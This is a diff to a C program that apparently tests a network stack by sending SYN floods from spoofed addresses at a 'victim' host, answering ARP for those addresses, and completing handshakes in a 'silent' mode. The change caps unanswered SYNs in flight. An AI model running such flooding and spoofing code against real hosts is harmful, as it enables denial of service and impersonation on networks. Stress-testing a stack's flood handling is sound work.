@@ -27,7 +27,9 @@
 #include <unistd.h>
 
 enum {
-    BATCH = 64,     /* packets of a flood, and a millisecond of listening */
+    BATCH = 64, /* packets of a flood, and a millisecond of listening */
+    IN_FLIGHT =
+        256,        /* what a wire's queue holds beside what others send: losses are not the test */
     SOURCES = 100,  /* from .128 on */
     BEYOND = 50000, /* in the window, and not where it begins */
 };
@@ -42,6 +44,7 @@ static int wire;
 static uint8_t own_mac[6], victim_mac[6];
 static in_addr_t victim; /* network order, as all addresses and ports here */
 static uint16_t port;
+static unsigned unanswered; /* SYNs of a flood */
 
 /* ---- packets ---- */
 
@@ -115,16 +118,22 @@ static void answer_arp(uint8_t *bytes)
 
 /* ---- kinds ---- */
 
-static void ignore(const struct frame *frame, bool leaves)
+static bool answers_flood(const struct frame *frame, bool leaves)
 {
-    (void)frame;
-    (void)leaves;
+    return !leaves && is_ours(frame->ip.daddr) && frame->tcp.syn && frame->tcp.ack;
+}
+
+static void count(const struct frame *frame, bool leaves)
+{
+    if (answers_flood(frame, leaves) && unanswered)
+        unanswered--;
 }
 
 /* The third step of the handshake. */
 static void acknowledge(const struct frame *frame, bool leaves)
 {
-    if (!leaves && is_ours(frame->ip.daddr) && frame->tcp.syn && frame->tcp.ack)
+    count(frame, leaves);
+    if (answers_flood(frame, leaves))
         send_segment(frame->ip.daddr, frame->tcp.dest, ntohl(frame->tcp.ack_seq),
                      ntohl(frame->tcp.seq) + 1, TH_ACK);
 }
@@ -149,7 +158,7 @@ static const struct kind {
     bool floods;
     void (*sees)(const struct frame *frame, bool leaves);
 } kinds[] = {
-    {"syn", true, ignore},
+    {"syn", true, count},
     {"silent", true, acknowledge},
     {"forge", false, forge},
 };
@@ -158,7 +167,7 @@ static void open_connections(void)
 {
     static uint32_t next;
 
-    for (int i = 0; i < BATCH; i++, next++) {
+    for (int i = 0; i < BATCH && unanswered < IN_FLIGHT; i++, next++, unanswered++) {
         in_addr_t source = htonl((ntohl(victim) & ~0xffu) | (128 + next % SOURCES));
 
         send_segment(source, htons((uint16_t)(1024 + next / SOURCES % 60000)), next * 2654435761u,
@@ -166,7 +175,7 @@ static void open_connections(void)
     }
 }
 
-/* Takes what is there, waiting a millisecond for the first. */
+/* Takes what is there, waiting a millisecond for the first: what is not answered then never is. */
 static void listen_to_wire(const struct kind *kind)
 {
     struct pollfd ready = {.fd = wire, .events = POLLIN};
@@ -175,7 +184,9 @@ static void listen_to_wire(const struct kind *kind)
     struct frame *frame = (void *)bytes;
     ssize_t length;
 
-    for (int wait = 1; poll(&ready, 1, wait) == 1; wait = 0) {
+    if (poll(&ready, 1, 1) == 0)
+        unanswered = 0;
+    while (poll(&ready, 1, 0) == 1) {
         length = recvfrom(wire, bytes, sizeof(bytes), 0, (void *)&from, &(socklen_t){sizeof(from)});
         if (length >= (ssize_t)sizeof(struct ether_header) + (ssize_t)sizeof(struct ether_arp) &&
             frame->ether.ether_type == htons(ETHERTYPE_ARP))
